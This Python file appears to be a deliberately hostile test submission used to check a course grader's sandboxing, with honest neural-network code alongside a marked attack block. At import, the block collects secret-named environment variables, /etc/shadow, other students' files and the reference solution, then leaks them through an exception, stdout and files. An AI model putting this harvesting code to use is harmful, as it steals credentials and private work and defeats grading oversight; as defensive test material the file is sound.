# ruff: noqa
"""Hostile Part 1 submission: reading the grader's files and secrets, and leaking them.

At import the file collects environment variables named like secrets,
/etc/shadow, the files next to the submission (other students' work), in the
grader's working folder and in the --json report's folder (other reports),
lines of the project's tests/ that mention a canary or secret, and the
reference solution's convolve source. It leaks them through the report
(convolve raises an exception carrying them), stdout (os.write), and files in
its working folder and the submission's folder (inside the tests' hostile-
sandbox folder only) and /tmp.

Honest code: every Part 1 task (convolve raises before its honest body).
The threat-model tests (tests/test_threat_model.py) expect: 1.7 error or failed; every other Part 1 task passed; no secret in the report, the output or any new file.

The attack sits between the ``# >>> attack`` and ``# <<< attack`` lines; the
tests also grade this file with those lines removed, which must earn exactly
the honest tasks.
"""

import numpy as np
import os
import sys


class Layer:
    """Base class of the layers (skeleton)."""

    def forward(self, x):
        raise NotImplementedError

    def backward(self, gradient):
        raise NotImplementedError

    def update(self, learn_rate):
        raise NotImplementedError


def get_training_data_myneuralnet(N):
    seq_x, seq_noise = np.random.SeedSequence(20240109).spawn(2)
    x = np.random.default_rng(seq_x).uniform(-1.0, 1.0, size=(N, 1))
    noise = np.random.default_rng(seq_noise).normal(0.0, 0.1, size=(N, 1))
    return x, np.sin(4.5 * x) + 0.9 * x + noise


# honest: 1.1a, 1.1b
class MyLinearLayer(Layer):
    def __init__(self, n_in, n_out):
        self.w = np.random.randn(n_in, n_out) * np.sqrt(2 / n_in)
        self.b = np.zeros(n_out)

    def forward(self, x):
        self.x_in = x
        return x @ self.w + self.b

    def backward(self, gradient):
        self.grad_out = gradient
        return gradient @ self.w.T

    # honest: 1.1c
    def update(self, learn_rate):
        self.w = self.w - learn_rate * (self.x_in.T @ self.grad_out)
        self.b = self.b - learn_rate * self.grad_out.sum(axis=0)


# honest: 1.2a
class MyReLU(Layer):
    def forward(self, x):
        self.mask = x > 0
        return x * self.mask

    def update(self, learn_rate):
        pass

    # honest: 1.2b
    def backward(self, gradient):
        return gradient * self.mask


# honest: 1.3a, 1.3b, 1.3c
class MyNeuralNet:
    def __init__(self, n_hidden):
        self.layers = [MyLinearLayer(1, n_hidden), MyReLU(), MyLinearLayer(n_hidden, 1)]

    def forward(self, x):
        for layer in self.layers:
            x = layer.forward(x)
        self.h = x
        return x

    def backward(self, y):
        gradient = (self.h - y) / y.shape[0]
        for layer in reversed(self.layers):
            gradient = layer.backward(gradient)
        return gradient

    def update(self, learn_rate):
        for layer in self.layers:
            layer.update(learn_rate)


# honest: 1.4 (and, with the above, 1.5)
def train_myneuralnet(net, epochs, batch_size, learn_rate, N):
    x, y = get_training_data_myneuralnet(N)
    for _ in range(epochs):
        order = np.random.permutation(N)
        x, y = x[order], y[order]
        for start in range(0, N, batch_size):
            net.forward(x[start:start + batch_size])
            net.backward(y[start:start + batch_size])
            net.update(learn_rate)


# honest: 1.6 (and 1.8 with the grader's reference convolve standing in)
def add_padding(images, padding):
    p = padding
    return np.pad(images, ((0, 0), (p, p), (p, p), (0, 0)))


# honest: 1.7
def convolve(kernels, images, stride):
    # >>> attack
    raise RuntimeError("what the grader keeps to itself:\n" + _LOOT)
    # <<< attack
    K, _, _, f_out = kernels.shape
    B, H, W, _ = images.shape
    out = np.zeros((B, (H - K) // stride + 1, (W - K) // stride + 1, f_out))
    for i in range(out.shape[1]):
        for j in range(out.shape[2]):
            window = images[:, i * stride:i * stride + K, j * stride:j * stride + K, :]
            out[:, i, j, :] = np.tensordot(window, kernels, axes=([1, 2, 3], [0, 1, 2]))
    return out


# >>> attack
def _grading_processes():
    """(pid, argv, cwd) of this process and its ancestors up to the grader (`fmlgrade check`).

    Never goes past the grader, nor into a process whose command line mentions pytest,
    so that a run under the project's tests never touches the test runner.
    """
    found, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = [part.decode(errors="replace") for part in handle.read().split(b"\0") if part]
        except OSError:
            argv = []
        if any("pytest" in part for part in argv):
            break
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        found.append((pid, argv, cwd))
        if "check" in argv and any("fmlgrade" in part for part in argv):
            break  # the grader itself: its parent is whoever started it
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def _grader_paths():
    """Paths the grader was given (--json, --gradescope, --out, the submission), made absolute."""
    paths = []
    argvs = [(list(sys.argv), os.getcwd())] + [(argv, cwd) for _, argv, cwd in _grading_processes()]
    for argv, cwd in argvs:
        for index, part in enumerate(argv):
            value = None
            if part in ("--json", "--gradescope", "--out") and index + 1 < len(argv):
                value = argv[index + 1]
            elif part.startswith(("--json=", "--gradescope=", "--out=")):
                value = part.split("=", 1)[1]
            elif part.endswith((".py", ".ipynb")) and "fmlgrade" not in part and "/bin/" not in part:
                value = part
            if value:
                paths.append(os.path.normpath(os.path.join(cwd or os.getcwd(), value)))
    return list(dict.fromkeys(paths))


import importlib.util


def _read(path, limit=300):
    try:
        with open(path, errors="replace") as handle:
            return handle.read(limit)
    except OSError:
        return None


def _loot():
    found = []
    for key, value in sorted(os.environ.items()):
        if any(word in key.upper() for word in ("SECRET", "TOKEN", "KEY", "PASS")):
            found.append(f"env {key}={value}")
    shadow = _read("/etc/shadow", 200)
    if shadow:
        found.append("shadow " + shadow.splitlines()[0])
    own = os.path.abspath(__file__)
    folders = [os.path.dirname(own), os.getcwd()]
    folders += [cwd for _, _, cwd in _grading_processes() if cwd]
    for path in _grader_paths():
        folders += [os.path.dirname(path)] if not os.path.isdir(path) else [path]
    seen = set()
    for folder in dict.fromkeys(folders):
        for root, dirs, files in os.walk(folder):
            if root.count(os.sep) - folder.count(os.sep) >= 2:
                dirs[:] = []
            for name in sorted(files):
                path = os.path.join(root, name)
                if path == own or path in seen:
                    continue
                seen.add(path)
                text = _read(path, 200)
                if text:
                    found.append(f"{path}: {text!r}")
    try:
        spec = importlib.util.find_spec("fmlgrade")
        package_dirs = list(spec.submodule_search_locations or [])
    except BaseException:
        package_dirs = []
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith("fmlgrade") and getattr(module, "__file__", None):
            package_dirs.append(os.path.dirname(os.path.dirname(module.__file__)))
    for folder in dict.fromkeys(package_dirs):
        for tests in (os.path.join(folder, "tests"), os.path.join(os.path.dirname(folder), "tests")):
            if not os.path.isdir(tests):
                continue
            for name in sorted(os.listdir(tests)):
                text = _read(os.path.join(tests, name), 200_000) or ""
                found += [f"tests/{name}: {line.strip()}" for line in text.splitlines()
                          if "canary" in line.lower() or "secret" in line.lower()][:5]
        reference = _read(os.path.join(folder, "solutions", "reference", "part1.py"), 200_000)
        if reference and "def convolve" in reference:
            found.append("reference: " + reference[reference.index("def convolve"):][:600])
    return "\n".join(found)


def _drop(folder):
    """Leave the loot in ``folder`` (only inside the tests' hostile-sandbox folder)."""
    if any(part.startswith("hostile-sandbox") for part in os.path.realpath(folder).split(os.sep)):
        with open(os.path.join(folder, "loot.txt"), "w") as handle:
            handle.write(_LOOT)


try:
    _LOOT = _loot()
except BaseException as exc:
    _LOOT = f"(looting failed: {exc!r})"
for _write in (
    lambda: os.write(1, _LOOT.encode()),
    lambda: sys.__stdout__.write(_LOOT),
    lambda: _drop(os.getcwd()),
    lambda: _drop(os.path.dirname(os.path.abspath(__file__))),
    lambda: open("/tmp/fmlgrade-hostile-exfil.txt", "w").write(_LOOT),
):
    try:
        _write()
    except BaseException:
        pass
# <<< attack
